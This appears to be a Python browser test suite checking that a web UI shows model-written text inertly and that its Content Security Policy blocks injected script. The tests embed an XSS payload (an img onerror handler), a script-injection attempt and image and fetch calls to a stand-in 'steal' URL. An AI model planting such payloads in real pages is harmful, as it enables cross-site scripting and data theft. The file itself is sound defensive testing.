"""What models write is text, and stays it."""

from tests.browser.chrome import Chrome
from tests.browser.replica import HOSTILE
from tests.browser.site import Site
from tests.browser.tree_view import TreeView

BROKEN_IN = """
const violations = [];
document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
const script = document.createElement('script');
try { script.text = 'window.pwned = 1'; document.body.append(script); } catch { violations.push('refused script'); }
try { document.body.innerHTML += '<img src=x onerror="window.pwned=1">'; } catch { violations.push('refused html'); }
const image = new Image();
image.src = 'https://example.invalid/steal';
document.body.append(image);
await fetch('https://example.invalid/steal').catch(() => violations.push('refused fetch'));
await new Promise((resolve) => setTimeout(resolve));
return [violations, window.pwned ?? null];
"""


def test_hostile_texts_are_shown_as_they_are_and_do_nothing(browser: Chrome, server: Site) -> None:
    goal = f"HOSTILE {HOSTILE}"
    tree_id = server.solve(goal, metadata={HOSTILE: HOSTILE})
    view = TreeView.open(browser, server, tree_id)
    view.ended("completed")
    assert browser.one("h1").text == goal
    assert HOSTILE in browser.one(".result").text
    assert view.rows()[0]["goal"] == goal
    browser.one(".row").click()
    browser.one(".turns li")
    texts = browser.run("return [...document.querySelectorAll('.turns .text')].map((each) => each.textContent)")
    assert texts[0] == HOSTILE
    assert texts[2] == f"{HOSTILE}\n"
    browser.one(".panel .close").click()
    browser.open(f"{server.url}/ui")
    browser.one("tbody tr", goal)
    assert browser.all("main img, main script, main b") == []
    assert browser.run("return window.pwned ?? null") is None


def test_should_a_text_become_html_after_all_the_browser_refuses_to_run_it(browser: Chrome, server: Site) -> None:
    browser.open(f"{server.url}/ui")
    browser.one("h1")
    violations, pwned = browser.run_async(BROKEN_IN)
    assert pwned is None
    assert {"refused script", "refused html", "refused fetch", "img-src", "connect-src"} <= set(violations)
    assert all("Content Security Policy" in message or "Trusted" in message for message in browser.errors())
